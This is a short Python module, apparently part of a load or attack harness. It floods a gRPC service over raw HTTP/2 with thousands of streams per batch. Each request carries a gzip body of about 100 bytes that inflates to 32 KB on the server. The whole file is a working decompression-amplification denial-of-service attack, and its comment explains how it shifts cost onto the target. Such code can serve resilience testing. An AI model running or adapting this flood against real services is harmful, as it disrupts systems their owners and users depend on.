"""Compressed calls of 100 bytes whose messages have 32 KB, a thousand at a time."""

import gzip
import struct

from wire import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SERVICE, flood_connection, frame, literal, settings

# Once, so that the attacker spends its time on sending: on the same machine, what it takes is taken from the service.
PACKED = gzip.compress(bytes(32_768))
BODY = struct.pack(">BI", 1, len(PACKED)) + PACKED


def chunks():
    head = b"\x83\x86\x01\x01a" + literal(":path", SERVICE + "Check") + literal("content-type", "application/grpc")
    head += literal("te", "trailers") + literal("grpc-encoding", "gzip")
    for first in range(1, 1 << 30, 2_000):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, BODY)
            for stream in range(first, first + 2_000, 2))  # fmt: skip


def flood(target, until):
    return flood_connection(target.grpc, until, PREFACE + settings(), chunks)
